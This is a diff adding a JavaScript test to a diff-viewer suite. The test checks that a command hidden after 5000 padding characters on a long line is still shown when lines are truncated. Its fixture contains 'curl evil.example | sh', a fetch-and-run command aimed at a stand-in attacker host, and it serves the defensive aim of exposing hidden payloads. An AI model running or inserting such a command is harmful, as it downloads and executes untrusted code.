@@ -21,3 +21,11 @@ it('counts all changed lines, but returns a bounded part of them', () => {
   expect(rows).toHaveLength(MAX_ROWS + 1)
   expect(rows.at(-1)?.text).toBe('15,000 more changed lines: download both versions to see them')
 })
+
+// Checked: when long lines are cut, the command at the end is in no row, and nothing says so.
+it('shows the end of a long line too', () => {
+  const { rows, added } = largeDiff('', `${'x'.repeat(5000)}; curl evil.example | sh\n`)
+  expect(added).toBe(1)
+  expect(rows.map((row) => row.text).join('')).toContain('curl evil.example | sh')
+  expect(rows.filter(({ after }) => after !== undefined)).toHaveLength(1)
+})
